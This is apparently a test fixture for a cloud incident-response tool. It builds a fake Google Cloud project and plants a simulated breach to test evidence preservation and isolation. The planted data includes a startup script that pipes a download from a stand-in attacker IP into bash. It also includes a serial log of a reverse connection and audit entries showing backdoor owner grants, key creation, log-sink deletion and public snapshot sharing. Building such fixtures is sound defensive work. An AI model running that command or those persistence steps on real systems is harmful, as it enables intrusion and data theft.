"""The Google Cloud sandbox: the fake Compute/Logging server, a planted incident and state checks."""

from __future__ import annotations

import datetime as dt
import hashlib
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

from cloudir.provider import Provider, TargetKind, TargetQuery
from moto_fixtures.gcp_flows import beacon_entries, flow_entry
from moto_fixtures.gcp_server import FakeGcp, FakeGcpServer, link
from moto_fixtures.sandbox import PlantedIncident
from providers.gcp import GcpProvider, create_provider
from providers.gcp.provider import CASE_LABEL, label_value

PROJECT = "victim-prod"
FORENSIC_PROJECT = "forensics-vault"
ZONE = "us-central1-a"
OTHER_ZONE = "europe-west1-b"
INSTANCE = "web-frontend-7x2k"
REGION = "us-central1"
REGIONAL_ZONE = "us-central1-b"
REGIONAL_INSTANCE = "api-backend-q8w1"
REGIONAL_MIG = "api-backend-rmig"
MIG = "web-frontend-mig"
NETWORK = link(PROJECT, "global", "networks", "default")
SERVICE_ACCOUNT = f"web-frontend@{PROJECT}.iam.gserviceaccount.com"
ATTACKER = SERVICE_ACCOUNT  # the attacker uses the instance's stolen service-account token
ADMIN = "ops-admin@victim.example"
RESPONDER = f"cloudir-responder@{FORENSIC_PROJECT}.iam.gserviceaccount.com"
INTERNAL_IP = "10.128.0.17"
EXTERNAL_IP = "34.118.42.7"
WINDOW_START = "2026-11-20T08:00:00Z"
WINDOW_END = "2026-11-20T12:00:00Z"
STARTUP_SCRIPT = "#!/bin/bash\ncurl -s http://203.0.113.66/x.sh | bash\n"
ATTACKER_IP = "203.0.113.66"
BACKDOOR_MEMBER = "user:backdoor.ops@gmail.com"
BACKDOOR_CONDITION = {"title": "until-2027", "expression": 'request.time < timestamp("2027-01-01T00:00:00Z")'}
BACKDOOR_GRANTS = (  # what the attacker's SetIamPolicy added (its audit entry's policyDelta)
    {"role": "roles/owner", "member": BACKDOOR_MEMBER},
    {"role": "roles/secretmanager.secretAccessor", "member": f"serviceAccount:{SERVICE_ACCOUNT}",
     "condition": BACKDOOR_CONDITION},
)  # fmt: skip
ATTACKER_KEY_ID = "9a8b7c6d5e4f30211203f4e5d6c7b8a9f0e1d2c3"  # the key the attacker created at 10:09
# Generic capability names (shared by every sandbox) to the Compute / Logging operation they exercise.
OPERATION_ALIASES = {
    "preserve": "instances.setDeletionProtection",
    "snapshot": "disks.createSnapshot",
    "copy": "images.insert",
    "isolate": "firewalls.insert",
    "pull_logs": "entries.list",
}
AUDIT_ACTIVITY = "cloudaudit.googleapis.com%2Factivity"
AUDIT_DATA = "cloudaudit.googleapis.com%2Fdata_access"
AUDIT_SYSTEM = "cloudaudit.googleapis.com%2Fsystem_event"


class GcpSandbox:
    """A running fake Google Cloud (use as a context manager)."""

    cloud = "gcp"

    def __init__(self, *, log_page_size: int = 50) -> None:
        self.server: FakeGcpServer | None = None
        self.log_page_size = log_page_size
        self.refusals_expected = False  # a test sending what Google's contract refuses, on purpose

    @property
    def fake(self) -> FakeGcp:
        """The fake's state and controls."""
        assert self.server is not None, "use the sandbox as a context manager"
        return self.server.fake

    def __enter__(self) -> GcpSandbox:
        self.server = FakeGcpServer()
        self.server.fake.on_write = self._log_own_write
        self.server.start()
        return self

    def _log_own_write(self, method: str, operation: str, path: str, user_agent: str, lro: str | None) -> None:
        """Write a change made through the fake into the Admin Activity audit log, with the caller's user agent.

        A change answered with a long-running operation names it in ``operation.id``, as Compute audit logs do.
        """
        assert self.server is not None
        stamp = dt.datetime.now(dt.UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        resource = path.split("/v1/", 1)[-1]
        service = "iam.googleapis.com" if "/iam" in path.split("/v1/", 1)[0] else "compute.googleapis.com"
        self.server.fake.log_entries.append(
            {
                "insertId": hashlib.sha256(f"{stamp}|{method}|{path}".encode()).hexdigest()[:16],
                "logName": f"projects/{PROJECT}/logs/{AUDIT_ACTIVITY}",
                "resource": {"type": "gce_instance", "labels": {"project_id": PROJECT}},
                "timestamp": stamp,
                "receiveTimestamp": stamp,
                "severity": "NOTICE",
                "protoPayload": {
                    "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
                    "authenticationInfo": {"principalEmail": RESPONDER},
                    "requestMetadata": {"callerIp": "198.51.100.10", "callerSuppliedUserAgent": user_agent},
                    "serviceName": service,
                    "methodName": f"v1.compute.{operation}" if service == "compute.googleapis.com" else operation,
                    "resourceName": resource,
                    "request": {},
                    "status": {},
                },
                **({"operation": {"id": lro, "producer": service, "first": True}} if lro else {}),
            }
        )

    def __exit__(self, *exc: object) -> None:
        if self.server is not None:
            self.server.stop()
            self.server = None

    def provider(self) -> Provider:
        """A provider pointed at the fake (anonymous credentials, quick log backoff)."""
        return self.gcp_provider()

    def gcp_provider(self, **overrides: Any) -> GcpProvider:
        """The concrete provider, with optional config overrides."""
        assert self.server is not None
        config: dict[str, Any] = {
            "project": PROJECT,
            "api_endpoint": self.server.endpoint,
            "anonymous": True,
            "forensic_project": FORENSIC_PROJECT,
            "principal": RESPONDER,
            "log_page_size": self.log_page_size,
            "log_backoff": 0.01,
            "log_max_retries": 3,
            "change_backoff": 0.0,
            "api_backoff": 0.001,
        }
        return create_provider(**{**config, **overrides})

    # -- the incident ----------------------------------------------------------------------------
    def plant_incident(self) -> PlantedIncident:
        """An instance in a MIG (boot + data disk, external IP, service account) and the attacker's audit trail."""
        fake = self.fake
        self._plant_compute(fake)
        fake.log_entries.extend(_baseline_entries() + _attacker_entries() + _flow_entries())
        fake.workspace_activities = _workspace_activities()
        return PlantedIncident(
            cloud=self.cloud,
            target=TargetQuery(TargetKind.INSTANCE, INSTANCE, ZONE),
            attacker_principal=ATTACKER,
            window_start=WINDOW_START,
            window_end=WINDOW_END,
            forensic_account=FORENSIC_PROJECT,
            alternate_targets=[
                TargetQuery(TargetKind.INSTANCE, INTERNAL_IP),
                TargetQuery(TargetKind.INSTANCE, EXTERNAL_IP),
                TargetQuery(TargetKind.INSTANCE, INSTANCE),
            ],
            extra={
                "project": PROJECT,
                "zone": ZONE,
                "instance": INSTANCE,
                "managed_instance_group": MIG,
                "disks": [f"{INSTANCE}", f"{INSTANCE}-data"],
                "attacker_methods": [entry["protoPayload"]["methodName"] for entry in _attacker_entries()],
            },
        )

    @staticmethod
    def _plant_compute(fake: FakeGcp) -> None:
        project = fake.project(PROJECT)
        fake.project(FORENSIC_PROJECT)
        for region, name, log_config in (
            (REGION, "default", {"enable": True, "aggregationInterval": "INTERVAL_5_SEC", "flowSampling": 0.5}),
            ("europe-west1", "default", {"enable": False}),  # flow logging off: the coverage says so
        ):
            project.subnetworks.setdefault(region, {})[name] = {
                "kind": "compute#subnetwork",
                "id": fake.new_id(),
                "name": name,
                "network": NETWORK,
                "region": link(PROJECT, "regions", region),
                "selfLink": link(PROJECT, "regions", region, "subnetworks", name),
                "ipCidrRange": "10.128.0.0/20" if region == REGION else "10.132.0.0/20",
                "logConfig": log_config,
            }
        instance_link = link(PROJECT, "zones", ZONE, "instances", INSTANCE)
        disks = []
        for index, (disk, size) in enumerate(((INSTANCE, "20"), (f"{INSTANCE}-data", "200"))):
            disk_link = link(PROJECT, "zones", ZONE, "disks", disk)
            project.disks.setdefault(ZONE, {})[disk] = {
                "kind": "compute#disk",
                "id": fake.new_id(),
                "name": disk,
                "sizeGb": size,
                "status": "READY",
                "zone": link(PROJECT, "zones", ZONE),
                "type": link(PROJECT, "zones", ZONE, "diskTypes", "pd-balanced"),
                "users": [instance_link],
                "selfLink": disk_link,
            }
            disks.append(
                {
                    "kind": "compute#attachedDisk",
                    "source": disk_link,
                    "deviceName": disk,
                    "index": index,
                    "boot": index == 0,
                    "type": "PERSISTENT",
                    "mode": "READ_WRITE",
                    "autoDelete": index == 0,
                }
            )
        template = link(PROJECT, "global", "instanceTemplates", "web-frontend-v3")
        igm_link = link(PROJECT, "zones", ZONE, "instanceGroupManagers", MIG)
        project.instances.setdefault(ZONE, {})[INSTANCE] = {
            "kind": "compute#instance",
            "id": fake.new_id(),
            "name": INSTANCE,
            "zone": link(PROJECT, "zones", ZONE),
            "machineType": link(PROJECT, "zones", ZONE, "machineTypes", "e2-medium"),
            "status": "RUNNING",
            "deletionProtection": False,
            "tags": {"items": ["http-server"], "fingerprint": "dGFncy12MQ=="},
            "labels": {"app": "web-frontend", "env": "prod"},
            "metadata": {
                "fingerprint": "bWV0YS12MQ==",
                "items": [
                    {"key": "created-by", "value": f"projects/123456789012/zones/{ZONE}/instanceGroupManagers/{MIG}"},
                    {"key": "instance-template", "value": template},
                    {"key": "startup-script", "value": STARTUP_SCRIPT},
                ],
            },
            "disks": disks,
            "networkInterfaces": [
                {
                    "name": "nic0",
                    "network": NETWORK,
                    "networkIP": INTERNAL_IP,
                    "subnetwork": link(PROJECT, "regions", "us-central1", "subnetworks", "default"),
                    "accessConfigs": [
                        {
                            "kind": "compute#accessConfig",
                            "type": "ONE_TO_ONE_NAT",
                            "name": "External NAT",
                            "natIP": EXTERNAL_IP,
                        }
                    ],
                }
            ],
            "serviceAccounts": [
                {"email": SERVICE_ACCOUNT, "scopes": ["https://www.googleapis.com/auth/cloud-platform"]}
            ],
            "selfLink": instance_link,
            "_serial": "Booting...\n[  OK  ] Started startup-script.\nconnecting to 203.0.113.66:4444\n",
        }
        project.instances.setdefault(OTHER_ZONE, {})["batch-worker-1"] = {
            "kind": "compute#instance",
            "id": fake.new_id(),
            "name": "batch-worker-1",
            "status": "RUNNING",
            "zone": link(PROJECT, "zones", OTHER_ZONE),
            "deletionProtection": False,
            "tags": {"items": [], "fingerprint": "dGFncy12MA=="},
            "labels": {},
            "metadata": {"items": []},
            "disks": [],
            "networkInterfaces": [{"name": "nic0", "network": NETWORK, "networkIP": "10.132.0.4", "accessConfigs": []}],
            "serviceAccounts": [],
            "selfLink": link(PROJECT, "zones", OTHER_ZONE, "instances", "batch-worker-1"),
        }
        _plant_regional_group_member(fake)
        fake.iam_policies[PROJECT] = {  # as the attacker left it: BACKDOOR_GRANTS added at 10:05
            "version": 3,
            "etag": "BwYTq2mE1Yc=",
            "bindings": [
                {"role": "roles/editor", "members": [f"serviceAccount:{SERVICE_ACCOUNT}", f"user:{ADMIN}"]},
                {"role": "roles/logging.viewer", "members": [f"serviceAccount:{RESPONDER}"]},
                {"role": "roles/owner", "members": [f"user:{ADMIN}", BACKDOOR_MEMBER]},
                {"role": "roles/secretmanager.secretAccessor", "members": [f"serviceAccount:{SERVICE_ACCOUNT}"],
                 "condition": BACKDOOR_CONDITION},
                {"role": "roles/storage.objectViewer", "members": ["user:contractor@victim.example"],
                 "condition": {"title": "business-hours", "expression": "request.time.getHours('UTC') < 18"}},
            ],
        }  # fmt: skip
        fake.service_accounts[SERVICE_ACCOUNT] = {
            "account": {
                "name": f"projects/{PROJECT}/serviceAccounts/{SERVICE_ACCOUNT}",
                "email": SERVICE_ACCOUNT,
                "projectId": PROJECT,
                "uniqueId": "104729358123456789012",
                "displayName": "web frontend",
                "oauth2ClientId": "104729358123456789012",
            },
            "keys": [
                {
                    "name": f"projects/{PROJECT}/serviceAccounts/{SERVICE_ACCOUNT}/keys/{key}",
                    "keyType": kind,
                    "keyOrigin": "GOOGLE_PROVIDED",
                    "keyAlgorithm": "KEY_ALG_RSA_2048",
                    "validAfterTime": after,
                    "validBeforeTime": "9999-12-31T23:59:59Z",
                }
                for key, kind, after in (
                    ("3f1c0a9e5b7d2c4e6f8a0b1c2d3e4f5a6b7c8d9e", "SYSTEM_MANAGED", "2026-11-01T00:00:00Z"),
                    (ATTACKER_KEY_ID, "USER_MANAGED", "2026-11-20T10:09:00Z"),
                )
            ],
        }
        project.igms.setdefault(ZONE, {})[MIG] = {
            "kind": "compute#instanceGroupManager",
            "id": fake.new_id(),
            "name": MIG,
            "zone": link(PROJECT, "zones", ZONE),
            "baseInstanceName": "web-frontend",
            "instanceTemplate": template,
            "targetSize": 3,
            "selfLink": igm_link,
            "_managed": [
                instance_link,
                link(PROJECT, "zones", ZONE, "instances", "web-frontend-9q4m"),
                link(PROJECT, "zones", ZONE, "instances", "web-frontend-b81c"),
            ],
        }
        for name, rule in {
            "default-allow-internal": {"sourceRanges": ["10.128.0.0/9"], "allowed": [{"IPProtocol": "all"}]},
            "allow-http": {
                "sourceRanges": ["0.0.0.0/0"],
                "targetTags": ["http-server"],
                "allowed": [{"IPProtocol": "tcp", "ports": ["80"]}],
            },
            "allow-db-admin": {
                "sourceRanges": ["10.0.0.0/8"],
                "targetTags": ["db"],
                "allowed": [{"IPProtocol": "tcp", "ports": ["5432"]}],
            },
            "allow-all-debug": {"sourceRanges": ["0.0.0.0/0"], "allowed": [{"IPProtocol": "all"}]},
        }.items():
            project.firewalls[name] = {
                "kind": "compute#firewall",
                "id": fake.new_id(),
                "name": name,
                "network": NETWORK,
                "direction": "INGRESS",
                "priority": 1000,
                "disabled": False,
                "selfLink": link(PROJECT, "global", "firewalls", name),
                **rule,
            }

    # -- state checks ----------------------------------------------------------------------------
    def state(self) -> dict[str, Any]:
        """Every resource in every project (operations excluded)."""
        return self.fake.state()

    def snapshots_for_case(self, case_id: str) -> list[str]:
        """Snapshots and forensic image copies labelled with the case id."""
        value = label_value(case_id)
        with self.fake.lock:
            return sorted(
                resource["selfLink"]
                for project in self.fake.projects.values()
                for resource in (*project.snapshots.values(), *project.images.values())
                if resource.get("labels", {}).get(CASE_LABEL) == value
            )

    def is_preserved(self, incident: PlantedIncident) -> bool:
        """Deletion protection is on and no managed instance group still owns the instance."""
        with self.fake.lock:
            project = self.fake.project(PROJECT)
            instance = project.instances[ZONE][INSTANCE]
            managed = project.igms[ZONE][MIG]["_managed"]
            return bool(instance["deletionProtection"]) and instance["selfLink"] not in managed

    def is_isolated(self, incident: PlantedIncident) -> bool:
        """The instance carries a tag that cloudir deny-all ingress and egress rules target."""
        with self.fake.lock:
            project = self.fake.project(PROJECT)
            tags = set(project.instances[ZONE][INSTANCE]["tags"].get("items", []))
            denied = {
                rule["direction"]
                for rule in project.firewalls.values()
                if str(rule.get("description", "")).startswith("cloudir")
                and set(rule.get("targetTags", [])) & tags
                and any(d.get("IPProtocol") == "all" for d in rule.get("denied", []))
                and "0.0.0.0/0" in rule.get("sourceRanges", []) + rule.get("destinationRanges", [])
            }
            return denied == {"INGRESS", "EGRESS"}

    @contextmanager
    def fail_next(self, operation: str, error_code: str = "InternalError") -> Iterator[None]:
        """The next call of ``operation`` (``disks.createSnapshot`` or a capability alias) fails with ``error_code``."""
        name = OPERATION_ALIASES.get(operation, operation)
        self.fake.inject(name, error_code)
        try:
            yield
        finally:
            self.fake.clear_injections(name)

    def lose_responses(self, operation: str, times: int = 1) -> None:
        """The next ``times`` calls of ``operation`` run, but their answer is lost (the connection drops)."""
        self.fake.lose_responses(OPERATION_ALIASES.get(operation, operation), times)

    def throttle(self, operation: str, times: int, *, after: int = 0) -> None:
        """Answer ``times`` calls of ``operation`` with 429 RESOURCE_EXHAUSTED, after ``after`` successful ones."""
        self.fake.inject(OPERATION_ALIASES.get(operation, operation), "RESOURCE_EXHAUSTED", times, after=after)


def _plant_regional_group_member(fake: FakeGcp) -> None:
    """A second instance, member of a regional managed instance group (no external IP, one disk)."""
    project = fake.project(PROJECT)
    instance_link = link(PROJECT, "zones", REGIONAL_ZONE, "instances", REGIONAL_INSTANCE)
    disk_link = link(PROJECT, "zones", REGIONAL_ZONE, "disks", REGIONAL_INSTANCE)
    project.disks.setdefault(REGIONAL_ZONE, {})[REGIONAL_INSTANCE] = {
        "kind": "compute#disk",
        "id": fake.new_id(),
        "name": REGIONAL_INSTANCE,
        "sizeGb": "10",
        "status": "READY",
        "zone": link(PROJECT, "zones", REGIONAL_ZONE),
        "users": [instance_link],
        "selfLink": disk_link,
    }
    project.instances.setdefault(REGIONAL_ZONE, {})[REGIONAL_INSTANCE] = {
        "kind": "compute#instance",
        "id": fake.new_id(),
        "name": REGIONAL_INSTANCE,
        "status": "RUNNING",
        "zone": link(PROJECT, "zones", REGIONAL_ZONE),
        "deletionProtection": False,
        "tags": {"items": [], "fingerprint": "dGFncy12MA=="},
        "labels": {"app": "api"},
        "metadata": {
            "items": [
                {
                    "key": "created-by",
                    "value": f"projects/123456789012/regions/{REGION}/instanceGroupManagers/{REGIONAL_MIG}",
                }
            ]
        },
        "disks": [{"source": disk_link, "deviceName": "boot", "index": 0, "boot": True, "type": "PERSISTENT"}],
        "networkInterfaces": [{"name": "nic0", "network": NETWORK, "networkIP": "10.128.0.40", "accessConfigs": []}],
        "serviceAccounts": [],
        "selfLink": instance_link,
    }
    project.igms.setdefault(REGION, {})[REGIONAL_MIG] = {
        "kind": "compute#instanceGroupManager",
        "id": fake.new_id(),
        "name": REGIONAL_MIG,
        "region": link(PROJECT, "regions", REGION),
        "targetSize": 2,
        "selfLink": link(PROJECT, "regions", REGION, "instanceGroupManagers", REGIONAL_MIG),
        "_managed": [instance_link, link(PROJECT, "zones", "us-central1-c", "instances", "api-backend-k3")],
    }


def _entry(
    minute: int,
    principal: str,
    service: str,
    method: str,
    resource: str,
    *,
    log: str = AUDIT_ACTIVITY,
    caller_ip: str = "198.51.100.10",
    request: dict[str, Any] | None = None,
    resource_type: str = "project",
) -> dict[str, Any]:
    """One Cloud Audit Log entry as entries.list returns it."""
    hour, minute = divmod(minute, 60)
    stamp = f"2026-11-20T{hour:02d}:{minute:02d}:00.000000Z"
    return {
        "insertId": hashlib.sha256(f"{stamp}|{method}|{resource}".encode()).hexdigest()[:16],
        "logName": f"projects/{PROJECT}/logs/{log}",
        "resource": {"type": resource_type, "labels": {"project_id": PROJECT}},
        "timestamp": stamp,
        "receiveTimestamp": stamp,
        "severity": "NOTICE",
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "authenticationInfo": {"principalEmail": principal},
            "requestMetadata": {"callerIp": caller_ip, "callerSuppliedUserAgent": "google-cloud-sdk gcloud/497.0.0"},
            "serviceName": service,
            "methodName": method,
            "resourceName": resource,
            "request": request or {},
            "status": {},
        },
    }


def _flow_entries() -> list[dict[str, Any]]:
    """The instance's VPC flow records: the implant beaconing to the attacker for 12 hours from 08:03, and a
    package download (what a web server also does)."""
    web = {"vm_name": INSTANCE, "zone": ZONE, "region": REGION, "vpc": "default", "subnet": "default"}
    first = dt.datetime(2026, 11, 20, 8, 3, tzinfo=dt.UTC)
    mirror = flow_entry(
        PROJECT, web, first + dt.timedelta(hours=3), (INTERNAL_IP, 52000), ("151.101.2.132", 80), sent=90_000
    )
    return [*beacon_entries(PROJECT, web, INTERNAL_IP, ATTACKER_IP, first), mirror]


def _baseline_entries() -> list[dict[str, Any]]:
    """Benign background: an admin listing and reading things, the service account writing logs, system events."""
    entries = []
    for index in range(0, 240, 2):
        minute = 6 * 60 + index  # 06:00 .. 09:58, partly before the window
        if index % 6 == 0:
            entries.append(
                _entry(
                    minute,
                    ADMIN,
                    "compute.googleapis.com",
                    "v1.compute.instances.list",
                    f"projects/{PROJECT}/zones/{ZONE}/instances",
                    log=AUDIT_DATA,
                )
            )
        elif index % 6 == 2:
            entries.append(
                _entry(
                    minute,
                    SERVICE_ACCOUNT,
                    "storage.googleapis.com",
                    "storage.objects.get",
                    f"projects/_/buckets/{PROJECT}-assets/objects/index.html",
                    log=AUDIT_DATA,
                    caller_ip=INTERNAL_IP,
                )
            )
        else:
            entries.append(
                _entry(
                    minute,
                    "system",
                    "compute.googleapis.com",
                    "compute.instances.automaticRestart",
                    f"projects/{PROJECT}/zones/{ZONE}/instances/web-frontend-9q4m",
                    log=AUDIT_SYSTEM,
                    resource_type="gce_instance",
                )
            )
    return entries


def _attacker_entries() -> list[dict[str, Any]]:
    """The attacker, acting as the instance's service account from an outside IP."""

    def attack(minute: int, service: str, method: str, resource: str, request: dict[str, Any]) -> dict[str, Any]:
        return _entry(minute, ATTACKER, service, method, resource, caller_ip=ATTACKER_IP, request=request)

    snapshot = f"projects/{PROJECT}/global/snapshots/db-backup-0412"
    grant = attack(
        10 * 60 + 5,
        "cloudresourcemanager.googleapis.com",
        "SetIamPolicy",
        f"projects/{PROJECT}",
        {"policy": {"bindings": [{"role": "roles/owner", "members": [BACKDOOR_MEMBER]}]}},
    )
    grant["protoPayload"]["serviceData"] = {
        "@type": "type.googleapis.com/google.iam.v1.logging.AuditData",
        "policyDelta": {"bindingDeltas": [{"action": "ADD", **delta} for delta in BACKDOOR_GRANTS]},
    }
    return [
        grant,
        attack(
            10 * 60 + 9,
            "iam.googleapis.com",
            "google.iam.admin.v1.CreateServiceAccountKey",
            f"projects/{PROJECT}/serviceAccounts/{SERVICE_ACCOUNT}",
            {"private_key_type": 2},
        ),
        attack(
            10 * 60 + 14,
            "logging.googleapis.com",
            "google.logging.v2.ConfigServiceV2.DeleteSink",
            f"projects/{PROJECT}/sinks/org-audit-export",
            {},
        ),
        attack(
            10 * 60 + 20,
            "compute.googleapis.com",
            "v1.compute.firewalls.insert",
            f"projects/{PROJECT}/global/firewalls/allow-all-debug",
            {"sourceRanges": ["0.0.0.0/0"], "alloweds": [{"IPProtocol": "all"}]},
        ),
        attack(
            10 * 60 + 31,
            "compute.googleapis.com",
            "v1.compute.snapshots.setIamPolicy",
            snapshot,
            {"policy": {"bindings": [{"role": "roles/compute.storageAdmin", "members": ["allUsers"]}]}},
        ),
        attack(
            10 * 60 + 33,
            "compute.googleapis.com",
            "v1.compute.images.setIamPolicy",
            f"projects/{PROJECT}/global/images/web-golden-v3",
            {"policy": {"bindings": [{"role": "roles/compute.imageUser", "members": ["allUsers"]}]}},
        ),
    ]


# -- Google Workspace (Admin SDK Reports activities) --------------------------------------------------------
WORKSPACE_CUSTOMER = "C03az79cb"
WORKSPACE_PHISHED = "jdoe@victim.example"  # the Workspace user whose password the attacker phished


def _activity(minute: int, application: str, actor: str, ip: str, name: str, **parameters: str) -> dict[str, Any]:
    when = dt.datetime(2026, 11, 20, tzinfo=dt.UTC) + dt.timedelta(minutes=minute)
    digest = hashlib.sha256(f"{application}:{actor}:{minute}:{name}".encode()).hexdigest()
    return {
        "kind": "admin#reports#activity",
        "id": {
            "time": when.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
            "uniqueQualifier": str(int(digest[:15], 16)),
            "applicationName": application,
            "customerId": WORKSPACE_CUSTOMER,
        },
        "etag": f'"{digest[:20]}"',
        "actor": {"callerType": "USER", "email": actor, "profileId": str(int(digest[15:30], 16))},
        "ipAddress": ip,
        "events": [
            {
                "type": {"login": "login", "admin": "USER_SETTINGS", "token": "auth"}[application],
                "name": name,
                "parameters": [{"name": key, "value": value} for key, value in parameters.items()],
            }
        ],
    }


def _workspace_activities() -> dict[str, list[dict[str, Any]]]:
    """A phished Workspace user: password guesses and a sign-in from the attacker's address, then persistence."""
    guesses = [
        _activity(9 * 60 + 40 + i, "login", WORKSPACE_PHISHED, ATTACKER_IP, "login_failure",
                  login_type="google_password", login_failure_type="login_failure_invalid_password")
        for i in range(3)
    ]  # fmt: skip
    return {
        "login": [
            _activity(8 * 60 + 5, "login", ADMIN, "198.51.100.20", "login_success", login_type="google_password"),
            *guesses,
            _activity(
                9 * 60 + 44, "login", WORKSPACE_PHISHED, ATTACKER_IP, "login_success", login_type="google_password"
            ),
        ],
        "admin": [
            _activity(
                9 * 60 + 50,
                "admin",
                WORKSPACE_PHISHED,
                ATTACKER_IP,
                "ASSIGN_ROLE",
                ROLE_NAME="_SEED_ADMIN_ROLE",
                USER_EMAIL="backdoor.ops@victim.example",
            ),
        ],
        "token": [
            _activity(
                9 * 60 + 52,
                "token",
                WORKSPACE_PHISHED,
                ATTACKER_IP,
                "authorize",
                app_name="Mail Sync Pro",
                client_id="1093.apps.googleusercontent.com",
            ),
        ],
    }
